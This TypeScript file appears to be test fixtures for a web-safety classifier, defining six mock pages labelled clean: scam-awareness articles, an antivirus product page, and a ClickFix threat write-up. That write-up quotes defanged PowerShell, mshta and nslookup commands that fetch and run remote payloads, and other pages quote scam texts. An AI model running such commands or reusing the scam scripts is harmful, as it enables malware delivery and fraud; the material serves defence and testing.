import { type Entry } from '../entry.js';
import { cssRoute, jsRoute, jsonRoute } from '../parts/e-bin.js';
import { analyticsRoute, analyticsSnippet, consentBanner } from '../parts/e-furniture.js';

// ---------- Bank: fraud-awareness article quoting scam texts and fake numbers ----------
const bkHost = 'www.harbourcu.org';
const bkPage = `<!DOCTYPE html>
<html lang="en-US">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Scam Alert: Fake "Fraud Department" Calls and Texts | Harbour Credit Union</title>
<meta name="description" content="Scammers are impersonating Harbour Credit Union's fraud department. Learn what the messages look like and how to protect your account.">
${analyticsSnippet('G-HBCU2025SEC')}
<link rel="stylesheet" href="/assets/css/hcu.css">
</head>
<body>
<header><a href="/" class="lg">Harbour<b>CU</b></a><nav><a href="/personal">Personal</a><a href="/business">Business</a><a href="/loans">Loans</a><a href="/security-center" class="on">Security Center</a></nav><a class="ob" href="https://online.harbourcu.org/login">Online Banking Login</a></header>
<main>
<article>
 <p class="cat">Security Center &rsaquo; Scam alerts</p>
 <h1>Scam alert: fake "fraud department" calls and texts</h1>
 <p class="by">Updated November 12, 2025 &middot; 6 min read</p>
 <p>We are seeing a sharp increase in impersonation scams targeting our members. Criminals send a text that looks like a fraud alert, then call from a number that appears to be ours ("spoofing"). Their goal is to get your online banking password, one-time passcodes, or to persuade you to move money to a "safe account".</p>
 <h2>What the scam messages look like</h2>
 <p>Here are real examples reported by members this month (phone numbers and links altered):</p>
 <blockquote>HARBOUR CU ALERT: Did you attempt a purchase of $1,249.99 at BESTBUY.COM? Reply YES or NO. If NO call our Fraud Dept immediately at 1-888-555-0199.</blockquote>
 <blockquote>Your Harbour CU account has been LOCKED due to suspicious activity. Verify your identity now to avoid permanent suspension: hxxps://harbourcu-verify[.]com/secure</blockquote>
 <blockquote>"This is Jason from the Harbour Credit Union fraud team. Someone is trying to wire money out of your account. To stop it I'm going to send you a code – please read it back to me so I can cancel the transfer."</blockquote>
 <p>A variation tells you that a bank employee is involved in the fraud and you must withdraw cash or buy gift cards or Bitcoin and deposit it at a crypto ATM "to protect it". <b>That is always a scam.</b></p>
 <h2>What we will never do</h2>
 <ul><li>Ask you for your online banking password, PIN or full card number by phone, text or email.</li><li>Ask you to read back a one-time passcode we sent you.</li><li>Ask you to move money to a "safe" or "secure" account, buy gift cards, or use a Bitcoin ATM.</li><li>Ask you to install remote-access apps such as AnyDesk or TeamViewer.</li></ul>
 <h2>If you receive one of these messages</h2>
 <ol><li>Don't reply, click links or call the number in the message.</li><li>Hang up and call us using the number on the back of your card or at <b>(360) 555-0100</b>.</li><li>Forward scam texts to 7726 (SPAM) and report them at reportfraud.ftc.gov.</li><li>If you shared information, log in and change your password immediately and call us so we can lock your card.</li></ol>
 <div class="box"><b>Think you’re a victim?</b> Call our 24/7 fraud line at (360) 555-0100 or visit any branch.</div>
</article>
<aside><b>Related</b><a href="/security-center/gift-card-scams">Gift card scams</a><a href="/security-center/romance-scams">Romance &amp; investment scams</a><a href="/security-center/zelle">Using Zelle safely</a></aside>
</main>
<footer>Federally insured by NCUA. Equal Housing Opportunity. Routing #325181028 &middot; &copy; 2025 Harbour Credit Union</footer>
${consentBanner('en', 'bar', '/privacy')}
</body>
</html>`;
const bkCss = `body{margin:0;font-family:"Lato",Arial,sans-serif;color:#222}header{display:flex;align-items:center;gap:26px;padding:14px 5vw;background:#00395d}.lg{color:#fff;font-size:22px;text-decoration:none}.lg b{color:#7fd1ff}header nav a{color:#d8e8f2;margin-right:14px;text-decoration:none}header nav a.on{color:#fff;font-weight:700}.ob{margin-left:auto;background:#7fd1ff;color:#00395d;padding:9px 14px;border-radius:4px;text-decoration:none;font-weight:700}
main{max-width:1100px;margin:0 auto;padding:20px;display:grid;grid-template-columns:1fr 260px;gap:30px}article{line-height:1.65;font-size:16px}.cat,.by{color:#6b7785;font-size:13px}blockquote{background:#f6f8fa;border-left:4px solid #c62828;margin:12px 0;padding:10px 16px;font-family:Menlo,Consolas,monospace;font-size:14px}
.box{background:#e8f4fb;padding:14px;border-radius:6px}aside a{display:block;color:#00395d;margin:6px 0}footer{background:#f1f3f5;padding:20px 5vw;font-size:12px;color:#555}`;

// ---------- ISP help article about browser pop-up tech-support scams ----------
const ispHost = 'help.fibrelinkbroadband.co.uk';
const ispPage = `<!DOCTYPE html>
<html lang="en-GB">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>"Your computer is infected" pop-ups and fake support calls | FibreLink Help</title>
${analyticsSnippet('G-FLBHELP01')}
<style>
body{margin:0;font-family:"Roboto",Arial,sans-serif;color:#212121;background:#fafafa}
header{background:#6a1b9a;color:#fff;padding:12px 5vw;display:flex;align-items:center;gap:24px}header b{font-size:20px}header input{margin-left:auto;padding:8px 12px;border-radius:18px;border:0;width:260px}
main{max-width:820px;margin:24px auto;background:#fff;padding:26px 34px;border-radius:6px;line-height:1.65}
.shot{border:1px solid #ddd;border-radius:6px;overflow:hidden;margin:16px 0}.shot .bar{background:#0078d7;color:#fff;font-size:13px;padding:6px 10px}.shot .body{padding:14px;font-family:"Segoe UI",Arial;font-size:14px;background:#fff}
.shot .cap{background:#f5f5f5;font-size:12px;color:#666;padding:6px 10px;border-top:1px solid #ddd}
kbd{border:1px solid #bbb;border-radius:3px;padding:0 5px;background:#f4f4f4}
.tip{background:#ede7f6;border-radius:6px;padding:12px 16px}
.fb{margin-top:26px;border-top:1px solid #eee;padding-top:14px;font-size:14px}
footer{text-align:center;color:#777;font-size:12px;padding:20px}
</style>
</head>
<body>
<header><b>FibreLink Help</b><span>Broadband &middot; TV &middot; Mobile</span><input placeholder="Search help articles"></header>
<main>
 <h1>“Your computer is infected” pop-ups and fake support calls</h1>
 <p>Some websites and malicious adverts show a full-screen warning that claims your computer is infected, that your connection has been blocked, or that your FibreLink account has been suspended. They usually play a loud alarm and display a phone number. <b>These warnings are fake.</b> Neither FibreLink nor Microsoft will ever show a pop-up asking you to call a number.</p>
 <div class="shot"><div class="bar">Windows Defender - Security Warning</div><div class="body"><b style="color:#c50f1f">** ACCESS TO THIS PC HAS BEEN BLOCKED FOR SECURITY REASONS **</b><br>Your computer has alerted us that it has been infected with a Trojan Spyware. The following data has been compromised: Email credentials, Banking passwords, Facebook login.<br><b>Call FibreLink Technical Support: 0800 046 1188 (Toll Free)</b></div><div class="cap">Example of a fake warning reported by a customer. Do not call the number.</div></div>
 <h2>How to close a fake warning</h2>
 <ol><li>Don't call the number and don't click anything on the page.</li><li>Press <kbd>Esc</kbd> to leave full-screen mode, or press <kbd>Ctrl</kbd>+<kbd>Shift</kbd>+<kbd>Esc</kbd> to open Task Manager, select your browser and click <b>End task</b>.</li><li>When you reopen the browser, don't restore the previous tabs.</li><li>Run a scan with Microsoft Defender or your own antivirus.</li></ol>
 <h2>If you already called or let someone connect</h2>
 <p>If you gave a caller remote access (for example with AnyDesk, TeamViewer or UltraViewer), disconnect from the internet, uninstall the software, change your passwords from another device and contact your bank. Report it to Action Fraud on 0300 123 2040.</p>
 <div class="tip"><b>Remember:</b> our genuine support number is on your bill and in the FibreLink app. We'll never cold-call you to say your router is hacked, and we'll never ask for remote access to fix a “virus”.</div>
 <div class="fb">Was this article helpful? <button data-v="1">Yes</button> <button data-v="0">No</button> <span id="fbm"></span></div>
</main>
<footer>FibreLink Broadband Ltd &middot; Accessibility &middot; Privacy &middot; Cookies</footer>
${consentBanner('en', 'box')}
<script>document.querySelectorAll('.fb button').forEach(function(b){b.onclick=function(){fetch('/api/feedback',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:'popup-scams',v:b.dataset.v})});document.getElementById('fbm').textContent='Thanks for your feedback!'}});</script>
</body>
</html>`;

// ---------- French public-service article on sextortion emails ----------
const frHost = 'www.cyber-assistance-citoyens.fr';
const frPage = `<!DOCTYPE html>
<html lang="fr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Chantage à la webcam prétendue piratée (sextorsion) : que faire ? | Cyber Assistance Citoyens</title>
${analyticsSnippet('G-CAC33FR11')}
<style>
body{margin:0;font-family:Marianne,Arial,sans-serif;color:#161616}
header{border-bottom:1px solid #ddd;padding:14px 6vw;display:flex;align-items:center;gap:20px}header b{font-size:18px}header nav{margin-left:auto}header nav a{margin-left:16px;color:#000091;text-decoration:none;font-size:14px}
main{max-width:800px;margin:0 auto;padding:20px;line-height:1.7}
.ex{background:#f6f6f6;border-left:4px solid #000091;padding:12px 16px;font-family:"Courier New",monospace;font-size:14px;white-space:pre-line}
.enc{background:#e8edff;padding:14px 18px;border-radius:4px}
.red{background:#ffe9e9;padding:14px 18px;border-radius:4px}
footer{background:#f6f6f6;font-size:12px;padding:20px 6vw;color:#555}
</style>
</head>
<body>
<header><b>Cyber Assistance Citoyens</b><nav><a href="/particuliers">Particuliers</a><a href="/entreprises">Entreprises</a><a href="/diagnostic">Diagnostic en ligne</a></nav></header>
<main>
 <p><small>Fiche réflexe &middot; Mise à jour : octobre 2025</small></p>
 <h1>Chantage à la webcam prétendue piratée (sextorsion)</h1>
 <p>Vous avez reçu un message d’une personne qui prétend avoir piraté votre ordinateur ou votre webcam, vous avoir filmé dans une situation intime et qui menace de diffuser la vidéo à vos contacts si vous ne payez pas une rançon en bitcoins ? Il s’agit très probablement d’une <b>escroquerie de masse</b>. Ces messages sont envoyés à des millions d’adresses.</p>
 <h2>Exemple de message reçu</h2>
 <div class="ex">Bonjour,
Je suis un hacker professionnel et j’ai piraté votre appareil il y a plusieurs mois. J’ai enregistré une vidéo de vous pendant que vous regardiez des sites pour adultes.
Envoyez 1 450 € en Bitcoin à cette adresse : bc1q-EXEMPLE-NE-PAS-PAYER
Vous avez 48 heures. Si je ne reçois pas le paiement, la vidéo sera envoyée à tous vos contacts.</div>
 <p>Le message contient parfois un ancien mot de passe qui vous appartient : il provient d’une fuite de données ancienne, pas d’un piratage de votre appareil. L’expéditeur peut aussi sembler être votre propre adresse e-mail (usurpation).</p>
 <h2>Que faire ?</h2>
 <div class="enc"><ul><li><b>Ne payez pas</b> et ne répondez pas.</li><li>Changez le mot de passe cité s’il est encore utilisé, et activez la double authentification.</li><li>Conservez le message et signalez-le sur la plateforme PHAROS ou au 33 700 (pour les SMS).</li><li>Si vous avez réellement été filmé par une personne rencontrée en ligne, déposez plainte : vous êtes victime, pas coupable.</li></ul></div>
 <h2>Si vous avez déjà payé</h2>
 <div class="red">Déposez plainte au commissariat ou à la gendarmerie, ou en ligne via THESEE. Méfiez-vous des sociétés qui promettent de « récupérer vos bitcoins » contre paiement : ce sont souvent de nouvelles arnaques.</div>
</main>
<footer>Cyber Assistance Citoyens – dispositif d’assistance aux victimes de cybermalveillance &middot; Mentions légales &middot; Accessibilité : partiellement conforme</footer>
${consentBanner('fr', 'bar')}
</body>
</html>`;

// ---------- Security vendor blog: ClickFix write-up quoting commands and IOCs ----------
const cfHost = 'research.vantagepoint-security.com';
const cfPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>ClickFix in 2025: fake CAPTCHAs, FileFix and the move to DNS staging – VantagePoint Research</title>
<link rel="stylesheet" href="/assets/blog.css">
${analyticsSnippet('G-VPR9C1FX2')}
</head>
<body>
<header><a class="lg" href="https://www.vantagepoint-security.com/">VantagePoint</a><span>Threat Research</span><nav><a href="/">All posts</a><a href="/tags/malware">Malware</a><a href="/tags/ioc">IOCs</a><a href="/feed.xml">RSS</a></nav></header>
<article>
 <h1>ClickFix in 2025: fake CAPTCHAs, FileFix and the move to DNS staging</h1>
 <p class="meta">By the VantagePoint Threat Research team &middot; 14 min read &middot; TLP:CLEAR</p>
 <h2>Summary</h2>
 <p>"ClickFix" is a social-engineering technique in which a web page convinces the visitor to paste and run a command themselves, usually framed as a CAPTCHA ("verify you are human") or a fix for a fake error. Because the user launches the command, it bypasses download-based protections. This post walks through three variants we observed and gives hunting queries for defenders.</p>
 <h2>Variant 1 – fake CAPTCHA with Win+R</h2>
 <p>The lure page shows a checkbox styled like a well-known CAPTCHA. Clicking it silently writes a command to the clipboard and displays instructions:</p>
 <blockquote>Verification steps: 1. Press Windows Button + R &nbsp; 2. Press CTRL + V &nbsp; 3. Press Enter</blockquote>
 <p>The clipboard content we recovered (defanged):</p>
 <pre><code>powershell -w h -nop -c "iex(iwr 'hxxps://kitchen-cdn[.]example/cf/v.txt' -UseBasicParsing)" # ✅ ''I am not a robot - reCAPTCHA Verification ID: 4821''</code></pre>
 <p>The trailing comment is what the victim sees in the Run dialog; the actual command is scrolled out of view.</p>
 <h2>Variant 2 – mshta and HTA payloads</h2>
 <pre><code>mshta hxxps://verify.captcha-check[.]example/r/a4f2.hta # I am not a robot - Cloudflare Verification ID: 51872</code></pre>
 <h2>Variant 3 – FileFix and nslookup staging</h2>
 <p>FileFix asks the user to paste a "file path" into the File Explorer address bar; the clipboard actually holds a PowerShell command padded with spaces followed by a fake path. A newer variant retrieves the second stage from a DNS TXT record:</p>
 <pre><code>cmd /c "nslookup -q=txt cfg.example-cdn[.]es 185.121.14[.]9 | findstr /v Name &gt; %TEMP%\\v.cmd &amp;&amp; %TEMP%\\v.cmd"</code></pre>
 <h2>Detection</h2>
 <p>Hunt for RunMRU entries containing <code>powershell</code>, <code>mshta</code> or <code>nslookup</code>, and for <code>explorer.exe</code> spawning PowerShell:</p>
 <pre><code>Get-ItemProperty 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU'</code></pre>
 <pre><code>DeviceProcessEvents
| where InitiatingProcessFileName =~ "explorer.exe"
| where FileName in~ ("powershell.exe","mshta.exe","cmd.exe")
| where ProcessCommandLine has_any ("iwr","irm","iex","http","nslookup")</code></pre>
 <h2>Mitigations</h2>
 <ul><li>Disable the Run dialog via GPO for users who don't need it (<i>Remove Run menu from Start Menu</i>).</li><li>Enable PowerShell Constrained Language Mode and ASR rules.</li><li>Train users: no legitimate CAPTCHA ever asks you to press Win+R.</li></ul>
 <h2>IOCs</h2>
 <table><tr><th>Type</th><th>Value</th></tr><tr><td>domain</td><td>kitchen-cdn[.]example</td></tr><tr><td>domain</td><td>captcha-check[.]example</td></tr><tr><td>sha256</td><td>4b1f0c8e2d6a9b3c7e5f1a0d2c4b6e8f9a1c3e5d7b9f0a2c4e6d8b0f1a3c5e7d</td></tr></table>
</article>
<footer>&copy; 2025 VantagePoint Security, Inc. &middot; <a href="https://www.vantagepoint-security.com/privacy">Privacy</a></footer>
${consentBanner('en', 'bar')}
<script src="/assets/copy-code.js"></script>
</body>
</html>`;
const cfCss = `body{margin:0;font-family:"Inter",Arial,sans-serif;color:#1d2127;background:#fff}header{display:flex;align-items:center;gap:14px;padding:14px 6vw;border-bottom:1px solid #e6e8eb}.lg{font-weight:800;color:#e4572e;text-decoration:none;font-size:20px}header nav{margin-left:auto}header nav a{margin-left:16px;color:#4b5563;text-decoration:none}
article{max-width:780px;margin:24px auto;padding:0 16px;line-height:1.7}.meta{color:#6b7280;font-size:14px}pre{background:#0f172a;color:#e2e8f0;padding:14px;border-radius:6px;overflow:auto;font-size:13px;position:relative}blockquote{border-left:4px solid #e4572e;margin:0;padding:8px 14px;background:#fff7f4}
table{border-collapse:collapse;width:100%}td,th{border:1px solid #e5e7eb;padding:6px 10px;text-align:left;font-family:monospace;font-size:13px}.cp{position:absolute;top:6px;right:6px;background:#334155;color:#fff;border:0;border-radius:4px;font-size:11px;padding:3px 8px}footer{text-align:center;font-size:12px;color:#9ca3af;padding:24px}`;
const cfJs = `document.querySelectorAll('pre').forEach(function(p){var b=document.createElement('button');b.className='cp';b.textContent='Copy';b.onclick=function(){navigator.clipboard.writeText(p.querySelector('code').textContent).then(function(){b.textContent='Copied'})};p.appendChild(b)});`;

// ---------- Brazilian bank article: "falso atendente" and Pix scams ----------
const ptHost = 'www.bancoaraucaria.com.br';
const ptPage = `<!DOCTYPE html>
<html lang="pt-BR">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>Golpe do falso atendente e do Pix agendado: saiba como se proteger | Banco Araucária</title>
${analyticsSnippet('G-BARC55SEG')}
<style>
body{margin:0;font-family:"Open Sans",Arial,sans-serif;color:#2d2d2d}
header{background:#0b5d3b;color:#fff;padding:14px 6vw;display:flex;align-items:center;gap:24px}header b{font-size:20px}header nav a{color:#d4f1e3;margin-right:14px;text-decoration:none;font-size:14px}header .ac{margin-left:auto;background:#ffc400;color:#0b5d3b;padding:8px 14px;border-radius:4px;text-decoration:none;font-weight:700}
main{max-width:820px;margin:24px auto;padding:0 20px;line-height:1.7}
.msg{background:#dcf8c6;border-radius:8px;padding:10px 14px;max-width:420px;font-size:14px;margin:8px 0;box-shadow:0 1px 1px rgba(0,0,0,.1)}
.msg small{display:block;color:#777;text-align:right}
.alert{background:#fff3cd;border-left:5px solid #ffc400;padding:12px 16px}
footer{background:#f3f3f3;font-size:12px;color:#666;padding:20px 6vw}
</style>
</head>
<body>
<header><b>Banco Araucária</b><nav><a href="#">Para você</a><a href="#">Empresas</a><a href="#">Segurança</a></nav><a class="ac" href="https://ib.bancoaraucaria.com.br/login">Acessar conta</a></header>
<main>
 <p><small>Segurança &middot; Publicado em 03/11/2025</small></p>
 <h1>Golpe do falso atendente e do Pix agendado: saiba como se proteger</h1>
 <p>Golpistas entram em contato se passando pela central do Banco Araucária, dizendo que identificaram uma compra suspeita ou um Pix agendado na sua conta. Eles já sabem seu nome, CPF e até os últimos dígitos do cartão, obtidos em vazamentos de dados.</p>
 <h2>Exemplos de mensagens usadas no golpe</h2>
 <div class="msg">BANCO ARAUCARIA: Compra aprovada no valor de R$ 2.899,00 em MAGAZINE. Não reconhece? Ligue 0800 591 0000 <small>SMS</small></div>
 <div class="msg">Olá, aqui é a Central de Segurança. Detectamos um Pix agendado de R$ 4.750,00 para CARLOS A. SOUZA. Para cancelar, precisamos que você faça um Pix de teste para a nossa conta de segurança e informe o código que vai chegar no seu celular. <small>WhatsApp</small></div>
 <p>Em outra versão, o falso atendente pede que você instale um aplicativo de “proteção” ou de acesso remoto, ou que entregue o cartão a um “motoboy do banco”.</p>
 <div class="alert"><b>O Banco Araucária nunca:</b> liga pedindo senha, código de token ou de SMS; pede Pix para “conta segura” ou “conta de teste”; manda motoboy buscar cartão; pede para instalar aplicativos fora das lojas oficiais.</div>
 <h2>O que fazer</h2>
 <ol><li>Desligue e ligue você mesmo para o número no verso do cartão: 4004-0000 (capitais) ou 0800 000 0000.</li><li>Se fez um Pix para golpistas, acione o MED (Mecanismo Especial de Devolução) pelo app em até 80 dias.</li><li>Registre boletim de ocorrência na delegacia eletrônica do seu estado.</li></ol>
</main>
<footer>Banco Araucária S.A. &middot; CNPJ 00.000.000/0001-91 &middot; SAC 0800 000 0001 &middot; Ouvidoria 0800 000 0002</footer>
${consentBanner('pt', 'bar')}
</body>
</html>`;

// ---------- Antivirus vendor product page (scan, threats, renewal pricing) ----------
const avHost = 'www.aegisshield.com';
const avPage = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width,initial-scale=1">
<title>AegisShield Total Security 2026 – Antivirus, VPN &amp; Identity Protection</title>
<link rel="stylesheet" href="/css/product.css">
${analyticsSnippet('G-AEGTS2026X')}
</head>
<body>
<div class="deal">Limited-time offer: <b>60% off</b> your first year of Total Security &middot; ends in <span id="cd"></span></div>
<header><a class="lg" href="/">AegisShield</a><nav><a href="/home">For Home</a><a href="/business">For Business</a><a href="/threats">Threat Encyclopedia</a><a href="/support">Support</a></nav><a class="my" href="https://my.aegisshield.com/">My Account</a></header>
<section class="hero"><div><h1>Total Security 2026</h1><p>Award-winning protection against viruses, ransomware, phishing and spyware – plus unlimited VPN, password manager and dark-web monitoring for up to 10 devices.</p>
<div class="price"><s>$119.99</s> <b>$47.99</b> <small>first year</small></div><a class="buy" href="/store/cart?sku=TS26-10D-1Y">Buy now</a><a class="trial" href="/downloads/free-trial">Free 30-day trial</a>
<p class="auto">Auto-renewal: your subscription renews at $119.99/year unless you cancel. You can turn off auto-renewal anytime in My Account. 30-day money-back guarantee.</p></div>
<div class="mock"><div class="scan"><b>Smart Scan</b><div class="bar"><i id="bar"></i></div><p id="st">Scanning&hellip;</p><ul id="res"></ul></div><small>Product screenshot. AegisShield scans run on your device, never in a web page.</small></div></section>
<section class="feat"><div><h3>Real-time protection</h3><p>Blocks malware, ransomware and malicious downloads before they run.</p></div><div><h3>Web &amp; scam protection</h3><p>Warns you about phishing sites and fake tech-support pop-ups.</p></div><div><h3>Secure VPN</h3><p>Unlimited traffic in 50+ countries.</p></div></section>
<section class="scam"><h2>Beware of fake AegisShield alerts</h2><p>Scammers send fake renewal invoices ("Your AegisShield subscription was renewed for $399.99 – call to cancel") and show pop-ups claiming your PC is infected. AegisShield will never show virus warnings inside a website, and our invoices always come from @aegisshield.com. Our support will never ask you to install remote-access tools to issue a refund.</p></section>
<footer>© 2025 AegisShield Software s.r.o. &middot; <a href="/legal/license">License Agreement</a> &middot; <a href="/legal/privacy">Privacy</a> &middot; <a href="/legal/auto-renewal">Auto-renewal terms</a></footer>
${consentBanner('en', 'modal', '/legal/cookies')}
<script src="/js/product.js"></script>
</body>
</html>`;
const avCss = `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;color:#14171c}.deal{background:#ffd60a;text-align:center;padding:8px;font-size:14px}header{display:flex;align-items:center;gap:26px;padding:14px 6vw;background:#0d1b2a}.lg{color:#4cc9f0;font-size:22px;font-weight:800;text-decoration:none}header nav a{color:#cfd8e3;margin-right:16px;text-decoration:none}.my{margin-left:auto;color:#fff}
.hero{display:grid;grid-template-columns:1fr 1fr;gap:40px;padding:50px 6vw;background:#f0f7fb}.hero h1{font-size:44px;margin:0}.price s{color:#888}.price b{font-size:40px;color:#0a7d3b}.buy{display:inline-block;background:#0a7d3b;color:#fff;padding:14px 28px;border-radius:6px;text-decoration:none;font-weight:700}.trial{margin-left:14px}.auto{font-size:12px;color:#555}
.mock{background:#fff;border-radius:12px;box-shadow:0 6px 24px rgba(0,0,0,.1);padding:20px}.scan .bar{height:8px;background:#e2e8f0;border-radius:4px;overflow:hidden}.scan .bar i{display:block;height:100%;width:0;background:#4cc9f0;transition:width .3s}.scan ul{font-size:13px;color:#0a7d3b}
.feat{display:grid;grid-template-columns:repeat(3,1fr);gap:24px;padding:30px 6vw}.scam{margin:0 6vw 30px;background:#fff4e5;border-radius:8px;padding:16px 20px}footer{text-align:center;font-size:12px;color:#777;padding:24px}`;
const avJs = `(function(){var p=0,b=document.getElementById('bar'),st=document.getElementById('st'),res=document.getElementById('res');
var steps=['Browsers and extensions: no issues','Network: Wi-Fi secure','Software updates: 2 apps can be updated','Performance: 1.2 GB junk files'];
var iv=setInterval(function(){p+=10;b.style.width=p+'%';if(p%25===0&&steps.length){var li=document.createElement('li');li.textContent=steps.shift();res.appendChild(li)}if(p>=100){clearInterval(iv);st.textContent='Demo complete – this is an illustration of the app.'}},400);
var end=new Date('2025-12-31T23:59:59Z').getTime();function t(){var s=Math.max(0,(end-Date.now())/1000|0);document.getElementById('cd').textContent=(s/86400|0)+'d '+((s/3600|0)%24)+'h '+((s/60|0)%60)+'m'}t();setInterval(t,60000);})();`;

export const entries: Entry[] = [
  {
    id: 'e-clean-article-bank-fraud-phone',
    label: 'clean',
    kind: 'fraud-awareness',
    url: `https://${bkHost}/security-center/fraud-department-impersonation`,
    body: bkPage,
    routes: { [`${bkHost}/assets/css/hcu.css`]: cssRoute(bkCss), ...analyticsRoute(bkHost) },
  },
  {
    id: 'e-clean-article-isp-popup-scam',
    label: 'clean',
    kind: 'fraud-awareness',
    url: `https://${ispHost}/security/fake-virus-popups-and-support-calls`,
    body: ispPage,
    routes: { [`${ispHost}/api/feedback`]: jsonRoute({ ok: true }), ...analyticsRoute(ispHost) },
  },
  {
    id: 'e-clean-article-sextorsion-fr',
    label: 'clean',
    kind: 'fraud-awareness',
    url: `https://${frHost}/particuliers/fiches-reflexes/sextorsion-chantage-webcam`,
    body: frPage,
    routes: { ...analyticsRoute(frHost) },
  },
  {
    id: 'e-clean-article-clickfix-writeup',
    label: 'clean',
    kind: 'security-writeup',
    url: `https://${cfHost}/2025/11/clickfix-fake-captcha-filefix-dns-staging/`,
    body: cfPage,
    routes: { [`${cfHost}/assets/blog.css`]: cssRoute(cfCss), [`${cfHost}/assets/copy-code.js`]: jsRoute(cfJs), ...analyticsRoute(cfHost) },
  },
  {
    id: 'e-clean-article-golpe-pix-pt',
    label: 'clean',
    kind: 'fraud-awareness',
    url: `https://${ptHost}/seguranca/golpe-falso-atendente-pix-agendado`,
    body: ptPage,
    routes: { ...analyticsRoute(ptHost) },
  },
  {
    id: 'e-clean-av-product-page',
    label: 'clean',
    kind: 'antivirus-vendor',
    url: `https://${avHost}/home/total-security`,
    body: avPage,
    routes: { [`${avHost}/css/product.css`]: cssRoute(avCss), [`${avHost}/js/product.js`]: jsRoute(avJs), ...analyticsRoute(avHost) },
  },
];
